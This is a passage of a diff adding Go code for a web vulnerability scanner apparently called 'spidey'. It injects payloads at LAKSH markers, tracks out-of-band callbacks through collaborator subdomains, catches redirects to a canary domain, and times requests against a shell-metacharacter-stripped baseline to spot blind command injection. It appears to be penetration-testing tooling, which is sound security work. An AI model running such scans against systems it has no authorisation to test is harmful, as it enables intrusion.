+	sent map[string]string // subdomain label -> "METHOD URL"
+}
+
+func newWebhookPoller(pollURL, header, domain string) (*webhookPoller, error) {
+	if u, err := url.Parse(pollURL); err != nil || (u.Scheme != "http" && u.Scheme != "https") || u.Host == "" {
+		return nil, fmt.Errorf("%q is not an http(s) URL", pollURL)
+	}
+	p := &webhookPoller{
+		url:    pollURL,
+		domain: domain,
+		client: &http.Client{Timeout: 20 * time.Second},
+		sent:   make(map[string]string),
+	}
+	if header != "" {
+		name, value, ok := strings.Cut(header, ":")
+		if !ok || strings.TrimSpace(name) == "" {
+			return nil, fmt.Errorf("header %q is not 'Name: Value'", header)
+		}
+		p.header = [2]string{strings.TrimSpace(name), strings.TrimSpace(value)}
+	}
+	return p, nil
+}
+
+// domainFor returns a fresh subdomain of -collab and remembers what it was used for.
+func (p *webhookPoller) domainFor(label string) string {
+	id := randomLabel(oastNonceLength)
+	p.mu.Lock()
+	p.sent[id] = label
+	p.mu.Unlock()
+	return id + "." + p.domain
+}
+
+// report fetches the poll URL and prints every issued subdomain found in it.
+func (p *webhookPoller) report() {
+	req, err := http.NewRequest(http.MethodGet, p.url, nil)
+	if err != nil {
+		fmt.Printf("[!] Collab poll failed: %v\n", err)
+		return
+	}
+	if p.header[0] != "" {
+		req.Header.Set(p.header[0], p.header[1])
+	}
+	resp, err := p.client.Do(req)
+	if err != nil {
+		fmt.Printf("[!] Collab poll failed: %v\n", err)
+		return
+	}
+	defer resp.Body.Close()
+	if resp.StatusCode != http.StatusOK {
+		fmt.Printf("[!] Collab poll failed: %s\n", resp.Status)
+		return
+	}
+	body, _ := io.ReadAll(io.LimitReader(resp.Body, 32<<20))
+	body = bytes.ToLower(body)
+
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	ids := make([]string, 0, len(p.sent))
+	for id := range p.sent {
+		if bytes.Contains(body, []byte(id)) {
+			ids = append(ids, id)
+		}
+	}
+	sort.Slice(ids, func(i, j int) bool { return p.sent[ids[i]] < p.sent[ids[j]] })
+	for _, id := range ids {
+		fmt.Printf("%s[OOB] %s.%s -> %s%s\n", red, id, p.domain, p.sent[id], reset)
+	}
+	fmt.Printf("Collab poll: %d of %d issued subdomains seen at %s\n", len(ids), len(p.sent), p.url)
+}
+
+// randomLabel returns n random lowercase letters and digits, valid in a DNS label.
+func randomLabel(n int) string {
+	const alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
+	b := make([]byte, n)
+	crand.Read(b)
+	for i := range b {
+		b[i] = alphabet[int(b[i])%len(alphabet)]
+	}
+	return string(b)
+}
+
+// printConnStats reports how many requests needed a fresh connection versus
+// reused a kept-alive one (including those opened during warmup).
+func printConnStats(fresh, reused int64) {
+	total := fresh + reused
+	if total == 0 {
+		return
+	}
+	fmt.Printf("Connections: %d new, %d reused (%.0f%% reuse)\n", fresh, reused, float64(reused)*100/float64(total))
+}
+
+// tally is a concurrency-safe counter keyed by string.
+type tally struct {
+	mu sync.Mutex
+	m  map[string]int
+}
+
+func newTally() *tally {
+	return &tally{m: make(map[string]int)}
+}
+
+func (t *tally) add(key string) {
+	t.mu.Lock()
+	t.m[key]++
+	t.mu.Unlock()
+}
+
+// String renders the counts as "a=3 b=1", most common first.
+func (t *tally) String() string {
+	t.mu.Lock()
+	defer t.mu.Unlock()
+	if len(t.m) == 0 {
+		return "none"
+	}
+	keys := make([]string, 0, len(t.m))
+	for k := range t.m {
+		keys = append(keys, k)
+	}
+	sort.Slice(keys, func(i, j int) bool {
+		if t.m[keys[i]] != t.m[keys[j]] {
+			return t.m[keys[i]] > t.m[keys[j]]
+		}
+		return keys[i] < keys[j]
+	})
+	parts := make([]string, len(keys))
+	for i, k := range keys {
+		parts[i] = fmt.Sprintf("%s=%d", k, t.m[k])
+	}
+	return strings.Join(parts, " ")
+}
+
+// statusSpec is a set of status codes and inclusive ranges, parsed from
+// specs like "200,301-399,500-599". A nil spec contains nothing.
+type statusSpec [][2]int
+
+func parseStatusSpec(spec string) (statusSpec, error) {
+	var out statusSpec
+	for _, part := range strings.Split(spec, ",") {
+		part = strings.TrimSpace(part)
+		if part == "" {
+			continue
+		}
+		lo, hi, isRange := strings.Cut(part, "-")
+		a, err := strconv.Atoi(strings.TrimSpace(lo))
+		if err != nil {
+			return nil, fmt.Errorf("bad status %q", part)
+		}
+		b := a
+		if isRange {
+			if b, err = strconv.Atoi(strings.TrimSpace(hi)); err != nil || b < a {
+				return nil, fmt.Errorf("bad status range %q", part)
+			}
+		}
+		out = append(out, [2]int{a, b})
+	}
+	return out, nil
+}
+
+// hiddenStatus reports whether -exclude-status or -match-status keeps a
+// result with this status off the console. Findings override it.
+func hiddenStatus(code int) bool {
+	return excludeStatus.contains(code) || (matchStatus != nil && !matchStatus.contains(code))
+}
+
+func (s statusSpec) contains(code int) bool {
+	for _, r := range s {
+		if code >= r[0] && code <= r[1] {
+			return true
+		}
+	}
+	return false
+}
+
+// openSeenDB loads previously recorded keys and opens the file for appending.
+func openSeenDB(path string) error {
+	seenDB = make(map[string]struct{})
+	if lines, err := readURLs(path); err == nil {
+		for _, l := range lines {
+			seenDB[l] = struct{}{}
+		}
+	} else if !os.IsNotExist(err) {
+		return err
+	}
+	f, err := os.OpenFile(path, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0644)
+	if err != nil {
+		return err
+	}
+	seenDBFile = f
+	return nil
+}
+
+func seenKey(method, u string) string {
+	return method + " " + u
+}
+
+func isSeen(method, u string) bool {
+	if _, ok := resumeDone[seenKey(method, u)]; ok {
+		return true
+	}
+	if seenDB == nil {
+		return false
+	}
+	seenDBMu.Lock()
+	defer seenDBMu.Unlock()
+	_, ok := seenDB[seenKey(method, u)]
+	return ok
+}
+
+// markSeen records a completed request so later runs skip it.
+func markSeen(method, u string) {
+	if seenDB == nil {
+		return
+	}
+	key := seenKey(method, u)
+	seenDBMu.Lock()
+	defer seenDBMu.Unlock()
+	seenDB[key] = struct{}{}
+	_, _ = seenDBFile.WriteString(key + "\n")
+}
+
+// expandPairs turns URL<TAB>payload lines into ready-to-send URLs: the payload
+// is substituted verbatim for every LAKSH marker, or appended when the URL has
+// none. Lines without a tab pass through unchanged.
+func expandPairs(lines []string) []string {
+	out := make([]string, 0, len(lines))
+	pairs, unmarked := 0, 0
+	for _, l := range lines {
+		u, payload, ok := strings.Cut(l, "\t")
+		if !ok {
+			out = append(out, l)
+			continue
+		}
+		pairs++
+		u = strings.TrimSpace(u)
+		if lakshRe.MatchString(u) {
+			u = lakshRe.ReplaceAllLiteralString(u, payload)
+		} else {
+			unmarked++
+			fmt.Printf("[WARN] no LAKSH marker, payload appended: %s\n", u)
+			u += payload
+		}
+		out = append(out, u)
+	}
+	fmt.Printf("[+] Pairs processed: %d (%d without a marker)\n", pairs, unmarked)
+	return out
+}
+
+// dedupeByPath keeps the first URL for each host+path pair, so endpoints seen
+// with many query variations are only hit once. Unparsable URLs are kept.
+func dedupeByPath(urls []string) ([]string, int) {
+	seen := make(map[string]struct{}, len(urls))
+	out := make([]string, 0, len(urls))
+	for _, raw := range urls {
+		u, err := url.Parse(raw)
+		if err != nil {
+			out = append(out, raw)
+			continue
+		}
+		host, _ := extractHost(raw)
+		key := host + u.EscapedPath()
+		if _, ok := seen[key]; ok {
+			continue
+		}
+		seen[key] = struct{}{}
+		out = append(out, raw)
+	}
+	return out, len(urls) - len(out)
+}
+
+// batchDelay returns the pause between two method batches. The next batch
+// re-hits every host immediately, so lists skewed towards a single host need a
+// longer gap: the delay grows with the URL count of the busiest host. A long
+// delay is gentler on rate limits but stretches the run; a short one finishes
+// sooner at the risk of the second batch tripping the limit the first one warmed.
+// -per-host-rps bounds that burst directly, whatever the delay.
+func batchDelay(urls []string) time.Duration {
+	if delayPerURL == 0 {
+		return minBatchDelay
+	}
+	perHost := make(map[string]int)
+	busiest := 0
+	for _, raw := range urls {
+		host, err := extractHost(raw)
+		if err != nil || host == "" {
+			continue
+		}
+		perHost[host]++
+		if perHost[host] > busiest {
+			busiest = perHost[host]
+		}
+	}
+	return minBatchDelay + time.Duration(busiest)*delayPerURL
+}
+
+func newHTTPClient(timeout time.Duration) *http.Client {
+	dialer := &net.Dialer{
+		Timeout:   dialTimeout,
+		KeepAlive: 60 * time.Second,
+		Resolver:  resolver,
+	}
+	dial := dialer.DialContext
+	if dnsCache != nil {
+		dial = dnsCache.dialer(dialer)
+	}
+	proxy := http.ProxyFromEnvironment
+	if proxyURL != nil {
+		proxy = http.ProxyURL(proxyURL)
+	}
+	if connectTo != "" {
+		// The transport still derives Host and SNI from the URL; only the
+		// socket goes elsewhere, and a proxy would defeat that
+		proxy = nil
+		dial = func(ctx context.Context, network, _ string) (net.Conn, error) {
+			return dialer.DialContext(ctx, network, connectTo)
+		}
+	}
+	tr := &http.Transport{
+		Proxy:                 proxy,
+		DialContext:           dial,
+		ForceAttemptHTTP2:     true,
+		MaxIdleConns:          200,
+		MaxIdleConnsPerHost:   100,
+		IdleConnTimeout:       idleTimeout,
+		TLSHandshakeTimeout:   tlsTimeout,
+		ExpectContinueTimeout: 2 * time.Second,
+		TLSClientConfig: &tls.Config{
+			MinVersion:         tlsMinVersion,
+			MaxVersion:         tlsMaxVersion,
+			InsecureSkipVerify: insecure,
+			Certificates:       clientCerts,
+		},
+	}
+	if forceHTTP1 {
+		// ALPN offers only http/1.1, and the empty TLSNextProto map keeps the
+		// transport from upgrading even if a server picks h2 anyway
+		tr.ForceAttemptHTTP2 = false
+		tr.TLSClientConfig.NextProtos = []string{"http/1.1"}
+		tr.TLSNextProto = map[string]func(string, *tls.Conn) http.RoundTripper{}
+	}
+	client := &http.Client{Transport: tr, Timeout: timeout, CheckRedirect: checkRedirect}
+	if useCookieJar {
+		// cookiejar.New only fails on a bad Options value
+		client.Jar, _ = cookiejar.New(nil)
+	}
+	return client
+}
+
+// seedCookieJar plants cookies for the root of every scheme+host in urls, so
+// the jar sends them from the first request on and keeps them across
+// redirects like any cookie a response set.
+func seedCookieJar(jar http.CookieJar, urls []string, cookies []*http.Cookie) {
+	for _, c := range cookies {
+		c.Path = "/"
+	}
+	done := make(map[string]bool)
+	for _, raw := range urls {
+		u, err := url.Parse(raw)
+		if err != nil || u.Host == "" {
+			continue
+		}
+		site := u.Scheme + "://" + u.Host
+		if done[site] {
+			continue
+		}
+		done[site] = true
+		jar.SetCookies(&url.URL{Scheme: u.Scheme, Host: u.Host, Path: "/"}, cookies)
+	}
+}
+
+// applyCustomHeaders sets the -H/-headers-file headers on req. A Host header
+// becomes req.Host, since net/http ignores it in the header map.
+func applyCustomHeaders(req *http.Request) {
+	for k, vs := range customHeaders {
+		if k == "Host" {
+			req.Host = vs[0]
+			continue
+		}
+		req.Header[k] = vs
+	}
+}
+
+// newResolver returns a resolver that sends every query to addr, over
+// whichever of UDP or TCP the lookup asks for.
+func newResolver(addr string) *net.Resolver {
+	return &net.Resolver{
+		PreferGo: true,
+		Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
+			d := net.Dialer{Timeout: dialTimeout}
+			return d.DialContext(ctx, network, addr)
+		},
+	}
+}
+
+// parseTLSVersion maps "1.0".."1.3" to the crypto/tls version constant.
+func parseTLSVersion(v string) (uint16, error) {
+	switch strings.TrimSpace(v) {
+	case "1.0":
+		return tls.VersionTLS10, nil
+	case "1.1":
+		return tls.VersionTLS11, nil
+	case "1.2":
+		return tls.VersionTLS12, nil
+	case "1.3":
+		return tls.VersionTLS13, nil
+	}
+	return 0, fmt.Errorf("unknown TLS version %q (use 1.0|1.1|1.2|1.3)", v)
+}
+
+type canaryHitKey struct{}
+
+// checkRedirect follows up to -max-redirects hops (0 returns the 3xx itself)
+// and stops at a hop pointing to the canary domain, recording the hit on the
+// request context. The canary itself is never contacted, so it does not need
+// to resolve.
+func checkRedirect(req *http.Request, via []*http.Request) error {
+	if isCanaryHost(req.URL.Hostname()) {
+		if hit, ok := req.Context().Value(canaryHitKey{}).(*int32); ok {
+			atomic.StoreInt32(hit, 1)
+		}
+		return http.ErrUseLastResponse
+	}
+	if maxRedirects == 0 {
+		return http.ErrUseLastResponse
+	}
+	if len(via) >= maxRedirects {
+		return fmt.Errorf("stopped after %d redirects", maxRedirects)
+	}
+	return nil
+}
+
+// isCanaryHost reports whether host is the canary domain or one of its subdomains.
+func isCanaryHost(host string) bool {
+	if canaryDomain == "" || host == "" {
+		return false
+	}
+	host = strings.ToLower(host)
+	return host == canaryDomain || strings.HasSuffix(host, "."+canaryDomain)
+}
+
+func warmupConnections(client *http.Client, urls []string) error {
+	hosts := uniqueHosts(urls)
+	if len(hosts) == 0 {
+		return nil
+	}
+	sem := make(chan struct{}, warmConcurrency)
+	var wg sync.WaitGroup
+	for host := range hosts {
+		wg.Add(1)
+		sem <- struct{}{}
+		go func(h string) {
+			defer wg.Done()
+			defer func() { <-sem }()
+			warmHost(client, h)
+		}(host)
+	}
+	wg.Wait()
+	return nil
+}
+
+// measureBaselines times baselineSamples plain GETs to the root of every host
+// in urls and returns each host's median latency to the response headers.
+// Hosts whose probes all fail get no baseline.
+func measureBaselines(client *http.Client, urls []string) map[string]time.Duration {
+	roots := make(map[string]string)
+	for _, raw := range urls {
+		u, err := url.Parse(raw)
+		host, herr := extractHost(raw)
+		if err != nil || herr != nil || host == "" {
+			continue
+		}
+		if _, ok := roots[host]; !ok {
+			roots[host] = u.Scheme + "://" + u.Host + "/"
+		}
+	}
+	out := make(map[string]time.Duration)
+	var mu sync.Mutex
+	var wg sync.WaitGroup
+	sem := make(chan struct{}, warmConcurrency)
+	for host, root := range roots {
+		wg.Add(1)
+		sem <- struct{}{}
+		go func(host, root string) {
+			defer wg.Done()
+			defer func() { <-sem }()
+			var samples []time.Duration
+			for i := 0; i < baselineSamples; i++ {
+				globalLimiter.wait()
+				hostPacer.wait(host)
+				ctx, cancel := context.WithTimeout(runCtx, requestTimeout)
+				req, _ := http.NewRequestWithContext(ctx, http.MethodGet, root, nil)
+				req.Header.Set("User-Agent", "Mozilla/5.0 (compatible; spidey/1.0)")
+				start := time.Now()
+				resp, err := client.Do(req)
+				if err == nil {
+					samples = append(samples, time.Since(start))
+					io.Copy(io.Discard, resp.Body)
+					resp.Body.Close()
+				}
+				cancel()
+			}
+			if len(samples) == 0 {
+				return
+			}
+			sort.Slice(samples, func(i, j int) bool { return samples[i] < samples[j] })
+			mu.Lock()
+			out[host] = samples[len(samples)/2]
+			mu.Unlock()
+		}(host, root)
+	}
+	wg.Wait()
+	for host, d := range out {
+		fmt.Printf("  %s: %s\n", host, d.Round(time.Millisecond))
+	}
+	return out
+}
+
+func warmHost(client *http.Client, host string) {
+	warmLimiter.wait()
+	globalLimiter.wait()
+	hostPacer.wait(host)
+	h, port := splitHostPort(host)
+	if port == "" {
+		port = "443"
+	}
+	addr := net.JoinHostPort(h, port)
+	if connectTo != "" {
+		addr = connectTo
+	}
+	warmURL := "https://" + host + "/"
+	// A raw dial would go around -proxy (or the environment proxy) and hit
+	// the target from the scanner's own address; leave warming to client.Do
+	if !viaProxy(warmURL) {
+		d := net.Dialer{Timeout: dialTimeout, KeepAlive: 30 * time.Second, Resolver: resolver}
+		if conn, err := d.Dial("tcp", addr); err == nil {
+			_ = conn.Close()
+		}
+	}
+	ctx, cancel := context.WithTimeout(runCtx, 8*time.Second)
+	defer cancel()
 	req, _ := http.NewRequestWithContext(ctx, http.MethodHead, warmURL, nil)
 	req.Header.Set("User-Agent", "Mozilla/5.0 (warm/1.0)")
 	resp, err := client.Do(req)
 	if err != nil {
-		return
+		return
+	}
+	io.Copy(io.Discard, resp.Body)
+	resp.Body.Close()
+}
+
+// viaProxy reports whether requests to raw go through a proxy, either -proxy
+// or one from HTTP(S)_PROXY. -connect-to always dials directly.
+func viaProxy(raw string) bool {
+	if connectTo != "" {
+		return false
+	}
+	if proxyURL != nil {
+		return true
+	}
+	req, err := http.NewRequest(http.MethodGet, raw, nil)
+	if err != nil {
+		return false
+	}
+	p, err := http.ProxyFromEnvironment(req)
+	return err == nil && p != nil
+}
+
+// hostCache remembers resolved addresses per host so skewed lists (many URLs
+// on one host) resolve it once rather than on every new connection.
+// Concurrent first lookups for a host share one query; failures are not kept.
+type hostCache struct {
+	mu      sync.Mutex
+	ttl     time.Duration // 0 keeps entries for the whole run
+	entries map[string]*hostEntry
+}
+
+type hostEntry struct {
+	ready   chan struct{}
+	addrs   []string
+	err     error
+	expires time.Time
+}
+
+func newHostCache(ttl time.Duration) *hostCache {
+	return &hostCache{ttl: ttl, entries: make(map[string]*hostEntry)}
+}
+
+func (c *hostCache) lookup(ctx context.Context, host string) ([]string, error) {
+	c.mu.Lock()
+	e := c.entries[host]
+	if e != nil && (c.ttl == 0 || e.expires.IsZero() || time.Now().Before(e.expires)) {
+		c.mu.Unlock()
+		<-e.ready
+		return e.addrs, e.err
+	}
+	e = &hostEntry{ready: make(chan struct{})}
+	c.entries[host] = e
+	c.mu.Unlock()
+
+	e.addrs, e.err = resolver.LookupHost(ctx, host)
+	// expires is read under mu by other lookups, so it is set there too
+	c.mu.Lock()
+	if c.ttl > 0 {
+		e.expires = time.Now().Add(c.ttl)
+	}
+	if e.err != nil && c.entries[host] == e {
+		delete(c.entries, host)
+	}
+	c.mu.Unlock()
+	close(e.ready)
+	return e.addrs, e.err
+}
+
+// dialer wraps d so hostnames go through the cache; each cached address is
+// tried in turn. IP literals are dialed as-is.
+func (c *hostCache) dialer(d *net.Dialer) func(ctx context.Context, network, addr string) (net.Conn, error) {
+	return func(ctx context.Context, network, addr string) (net.Conn, error) {
+		host, port, err := net.SplitHostPort(addr)
+		if err != nil || net.ParseIP(host) != nil {
+			return d.DialContext(ctx, network, addr)
+		}
+		addrs, err := c.lookup(ctx, host)
+		if err != nil {
+			return nil, err
+		}
+		var lastErr error
+		for _, ip := range addrs {
+			conn, err := d.DialContext(ctx, network, net.JoinHostPort(ip, port))
+			if err == nil {
+				return conn, nil
+			}
+			lastErr = err
+		}
+		return nil, lastErr
+	}
+}
+
+// showConfig prints the effective value of every flag to stderr, marking
+// the ones left at their default.
+func showConfig() {
+	set := make(map[string]bool)
+	flag.Visit(func(f *flag.Flag) { set[f.Name] = true })
+	fmt.Fprintln(os.Stderr, "Effective config:")
+	flag.VisitAll(func(f *flag.Flag) {
+		if f.Name == "show-config" {
+			return
+		}
+		src := "default"
+		if set[f.Name] {
+			src = "set"
+		}
+		fmt.Fprintf(os.Stderr, "  -%-24s %-30q (%s)\n", f.Name, f.Value.String(), src)
+	})
+}
+
+// hostLimiter caps in-flight requests per host with one semaphore per host,
+// created on first use. A nil limiter never blocks. Workers waiting on a busy
+// host still hold their -concurrency slot, so a host-skewed list runs at
+// roughly the per-host cap.
+type hostLimiter struct {
+	mu    sync.Mutex
+	max   int
+	slots map[string]chan struct{}
+}
+
+func newHostLimiter(max int) *hostLimiter {
+	return &hostLimiter{max: max, slots: make(map[string]chan struct{})}
+}
+
+func (l *hostLimiter) acquire(host string) {
+	if l == nil {
+		return
+	}
+	l.mu.Lock()
+	ch, ok := l.slots[host]
+	if !ok {
+		ch = make(chan struct{}, l.max)
+		l.slots[host] = ch
+	}
+	l.mu.Unlock()
+	ch <- struct{}{}
+}
+
+func (l *hostLimiter) release(host string) {
+	if l == nil {
+		return
+	}
+	l.mu.Lock()
+	ch := l.slots[host]
+	l.mu.Unlock()
+	<-ch
+}
+
+// rateLimiter spaces calls to wait evenly at a fixed rate, shared by all
+// goroutines. A nil limiter never blocks.
+type rateLimiter struct {
+	mu       sync.Mutex
+	interval time.Duration
+	next     time.Time
+}
+
+func newRateLimiter(rps float64) *rateLimiter {
+	if rps <= 0 {
+		return nil
+	}
+	return &rateLimiter{interval: time.Duration(float64(time.Second) / rps)}
+}
+
+// wait blocks until the caller's slot comes up.
+func (l *rateLimiter) wait() {
+	if l == nil {
+		return
+	}
+	l.mu.Lock()
+	now := time.Now()
+	if l.next.Before(now) {
+		l.next = now
+	}
+	d := l.next.Sub(now)
+	l.next = l.next.Add(l.interval)
+	l.mu.Unlock()
+	time.Sleep(d)
+}
+
+// hostRates keeps one rateLimiter per host for -per-host-rps. A nil
+// *hostRates never waits.
+type hostRates struct {
+	mu  sync.Mutex
+	rps float64
+	m   map[string]*rateLimiter
+}
+
+func newHostRates(rps float64) *hostRates {
+	if rps <= 0 {
+		return nil
+	}
+	return &hostRates{rps: rps, m: make(map[string]*rateLimiter)}
+}
+
+// wait blocks until host's next slot comes up.
+func (h *hostRates) wait(host string) {
+	if h == nil {
+		return
+	}
+	h.mu.Lock()
+	l := h.m[host]
+	if l == nil {
+		l = newRateLimiter(h.rps)
+		h.m[host] = l
+	}
+	h.mu.Unlock()
+	l.wait()
+}
+
+func uniqueHosts(urls []string) map[string]struct{} {
+	hosts := make(map[string]struct{}, len(urls))
+	for _, raw := range urls {
+		host, err := extractHost(raw)
+		if err != nil || host == "" {
+			continue
+		}
+		hosts[host] = struct{}{}
+	}
+	return hosts
+}
+
+// extractHost returns the URL's lowercased host, keeping any explicit port and
+// IPv6 brackets (e.g. "[::1]:8080") so the result can be dialed or re-joined.
+func extractHost(rawurl string) (string, error) {
+	u, err := url.Parse(rawurl)
+	if err != nil {
+		return "", err
+	}
+	host, port := splitHostPort(u.Host)
+	if host == "" {
+		return "", nil
+	}
+	host = strings.ToLower(host)
+	if port == "" {
+		if strings.Contains(host, ":") {
+			return "[" + host + "]", nil
+		}
+		return host, nil
+	}
+	return net.JoinHostPort(host, port), nil
+}
+
+// splitHostPort separates a URL host into host and port for hostnames, IPv4
+// and bracketed IPv6 literals. The port is empty when none is given and IPv6
+// hosts come back without brackets.
+func splitHostPort(hostport string) (host, port string) {
+	h, p, err := net.SplitHostPort(hostport)
+	if err != nil {
+		return strings.TrimSuffix(strings.TrimPrefix(hostport, "["), "]"), ""
+	}
+	return h, p
+}
+
+// stdoutTerminal reports whether stdout is a terminal, where colors are safe.
+func stdoutTerminal() bool {
+	st, err := os.Stdout.Stat()
+	return err == nil && st.Mode()&os.ModeCharDevice != 0
+}
+
+// stdinPiped reports whether stdin is a pipe or file rather than a terminal.
+func stdinPiped() bool {
+	st, err := os.Stdin.Stat()
+	return err == nil && st.Mode()&os.ModeCharDevice == 0
+}
+
+// readURLs returns the non-empty trimmed lines of path; "-" reads stdin.
+func readURLs(path string) ([]string, error) {
+	f := os.Stdin
+	if path != "-" {
+		var err error
+		if f, err = os.Open(path); err != nil {
+			return nil, err
+		}
+		defer f.Close()
+	}
+	r, err := guardInput(f)
+	if err != nil {
+		return nil, err
+	}
+	var urls []string
+	scanner := bufio.NewScanner(r)
+	const maxLine = 2 * 1024 * 1024
+	buf := make([]byte, 0, 128*1024)
+	scanner.Buffer(buf, maxLine)
+	for scanner.Scan() {
+		line := strings.TrimSpace(scanner.Text())
+		if line != "" {
+			urls = append(urls, line)
+		}
+	}
+	return urls, scanner.Err()
+}
+
+// guardInput checks an opened input against -max-file-size before it is
+// read: regular files are refused when too large or when they look binary
+// (a NUL in the first 4 KiB); pipes are capped as they are read.
+func guardInput(f *os.File) (io.Reader, error) {
+	limit := maxFileSize << 20
+	st, err := f.Stat()
+	if err != nil {
+		return nil, err
+	}
+	if !st.Mode().IsRegular() {
+		if limit <= 0 {
+			return f, nil
+		}
+		return &cappedReader{r: f, left: limit, name: f.Name()}, nil
+	}
+	if limit > 0 && st.Size() > limit {
+		return nil, fmt.Errorf("%s is %d MiB, over -max-file-size %d MiB (raise it, or 0 to disable)", f.Name(), st.Size()>>20, maxFileSize)
+	}
+	head := make([]byte, 4096)
+	n, _ := io.ReadFull(f, head)
+	if bytes.IndexByte(head[:n], 0) >= 0 {
+		return nil, fmt.Errorf("%s looks like a binary file, not a text list", f.Name())
+	}
+	if _, err := f.Seek(0, io.SeekStart); err != nil {
+		return nil, err
+	}
+	return f, nil
+}
+
+// cappedReader fails a stream once it passes -max-file-size.
+type cappedReader struct {
+	r    io.Reader
+	left int64
+	name string
+}
+
+func (c *cappedReader) Read(p []byte) (int, error) {
+	if c.left <= 0 {
+		return 0, fmt.Errorf("%s exceeds -max-file-size %d MiB", c.name, maxFileSize)
+	}
+	if int64(len(p)) > c.left {
+		p = p[:c.left]
+	}
+	n, err := c.r.Read(p)
+	c.left -= int64(n)
+	return n, err
+}
+
+// sendRequest runs fetchStatus and feeds the outcome to the configured result writers.
+func sendRequest(client *http.Client, u, method string) (fetchResult, error) {
+	host, _ := extractHost(u)
+	hostSlots.acquire(host)
+	var benign time.Duration
+	if sleepDetect {
+		benign, _ = benignLatency(client, u, method)
+	}
+	start := time.Now()
+	res, err := fetchWithRetry(client, u, method)
+	hostSlots.release(host)
+	if err == nil || runCtx.Err() == nil {
+		hostOutcomes.record(host, res.Status, err)
+	}
+	res.Benign = benign
+	if resultOut != nil {
+		resultOut.write(method, u, res, err, time.Since(start))
+	}
+	if diff != nil {
+		diff.record(method, u, res, err)
+	}
+	if reflectOut != nil && err == nil {
+		reflectOut.write(method, u, res.Reflected)
+	}
+	if groupOut != nil {
+		if err != nil {
+			groupOut.write("errors", fmt.Sprintf("%s %s %v", method, u, err))
+		} else {
+			groupOut.write(statusBucket(res.Status), fmt.Sprintf("%s %s %d", method, u, res.Status))
+		}
+	}
+	return res, err
+}
+
+// hostStats counts request outcomes per host (as keyed by extractHost).
+type hostStats struct {
+	mu sync.Mutex
+	m  map[string]*hostCounts
+}
+
+type hostCounts struct {
+	requests, ok, errors int
+	statuses             map[int]int
+}
+
+func newHostStats() *hostStats {
+	return &hostStats{m: make(map[string]*hostCounts)}
+}
+
+func (h *hostStats) record(host string, status int, err error) {
+	h.mu.Lock()
+	defer h.mu.Unlock()
+	c := h.m[host]
+	if c == nil {
+		c = &hostCounts{statuses: make(map[int]int)}
+		h.m[host] = c
+	}
+	c.requests++
+	if err != nil {
+		c.errors++
+		return
+	}
+	c.ok++
+	c.statuses[status]++
+}
+
+// topStatus is the most frequent status, the lowest code on ties; "-" when
+// every request failed.
+func (c *hostCounts) topStatus() string {
+	best, n := 0, 0
+	for code, k := range c.statuses {
+		if k > n || (k == n && code < best) {
+			best, n = code, k
+		}
+	}
+	if n == 0 {
+		return "-"
+	}
+	return fmt.Sprintf("%d (%d×)", best, n)
+}
+
+// print lists up to limit hosts, flakiest first: most errors, then most requests.
+func (h *hostStats) print(limit int) {
+	h.mu.Lock()
+	defer h.mu.Unlock()
+	if len(h.m) == 0 {
+		return
+	}
+	hosts := make([]string, 0, len(h.m))
+	for host := range h.m {
+		hosts = append(hosts, host)
+	}
+	sort.Slice(hosts, func(i, j int) bool {
+		a, b := h.m[hosts[i]], h.m[hosts[j]]
+		if a.errors != b.errors {
+			return a.errors > b.errors
+		}
+		if a.requests != b.requests {
+			return a.requests > b.requests
+		}
+		return hosts[i] < hosts[j]
+	})
+	fmt.Printf("=== Per-host summary (%d hosts) ===\n", len(hosts))
+	fmt.Printf("%-40s %8s %8s %8s  %s\n", "Host", "Requests", "Success", "Errors", "Top status")
+	for i, host := range hosts {
+		if i == limit {
+			fmt.Printf("... %d more hosts (raise -host-summary to list them)\n", len(hosts)-limit)
+			break
+		}
+		c := h.m[host]
+		fmt.Printf("%-40s %8d %8d %8d  %s\n", host, c.requests, c.ok, c.errors, c.topStatus())
+	}
+	fmt.Println()
+}
+
+// benignLatency times a harmless copy of the request for -sleep-detect: query
+// values are cut at the first shell metacharacter ("1" if nothing is left),
+// and neither rotating headers nor the -data body are sent.
+func benignLatency(client *http.Client, raw, method string) (time.Duration, error) {
+	u, err := url.Parse(raw)
+	if err != nil {
+		return 0, err
+	}
+	parts := strings.Split(u.RawQuery, "&")
+	for i, p := range parts {
+		k, v, ok := strings.Cut(p, "=")
+		if !ok {
+			continue
+		}
+		if dec, err := url.QueryUnescape(v); err == nil {
+			v = dec
+		}
+		if j := strings.IndexAny(v, ";|&`$()<>'\"\n"); j >= 0 {
+			v = v[:j]
+		}
+		if v = strings.TrimSpace(v); v == "" {
+			v = "1"
+		}
+		parts[i] = k + "=" + url.QueryEscape(v)
+	}
+	u.RawQuery = strings.Join(parts, "&")
+
+	payloadLimiter.wait()
+	globalLimiter.wait()
+	if host, err := extractHost(raw); err == nil {
+		hostPacer.wait(host)
+	}
+	ctx, cancel := context.WithTimeout(runCtx, requestTimeout)
+	defer cancel()
+	req, err := http.NewRequestWithContext(ctx, method, u.String(), nil)
+	if err != nil {
+		return 0, err
+	}
+	applyCustomHeaders(req)
+	if req.Header.Get("User-Agent") == "" {
+		req.Header.Set("User-Agent", "Mozilla/5.0 (compatible; spidey/1.0)")
+	}
+	start := time.Now()
+	resp, err := client.Do(req)
+	elapsed := time.Since(start)
+	if err != nil {
+		return 0, err
+	}
+	io.Copy(io.Discard, resp.Body)
+	resp.Body.Close()
+	return elapsed, nil
+}
+
+// fetchWithRetry retries failed requests up to -retries times, taking each
+// retry from the run-wide -retry-budget first.
+func fetchWithRetry(client *http.Client, u, method string) (fetchResult, error) {
+	res, err := fetchStatus(client, u, method)
+	for attempt := 1; attempt <= maxRetries && transient(err, res.Status); attempt++ {
+		if !takeRetry() {
+			atomic.AddInt64(&retriesDenied, 1)
+			break
+		}
+		wait := retryBackoff(attempt)
+		if err == nil && res.Status == http.StatusTooManyRequests && res.RetryAfter > 0 {
+			wait = min(res.RetryAfter, retryAfterMax)
+			atomic.AddInt64(&retryAfterWaits, 1)
+		}
+		select {
+		case <-time.After(wait):
+		case <-runCtx.Done():
+			return res, err
+		}
+		res, err = fetchStatus(client, u, method)
+	}
+	return res, err
+}
+
+// parseRetryAfter reads a Retry-After value in either delay-seconds or
+// HTTP-date form. Dates in the past and junk give 0.
+func parseRetryAfter(v string, now time.Time) time.Duration {
+	v = strings.TrimSpace(v)
+	if v == "" {
+		return 0
+	}
+	if secs, err := strconv.Atoi(v); err == nil {
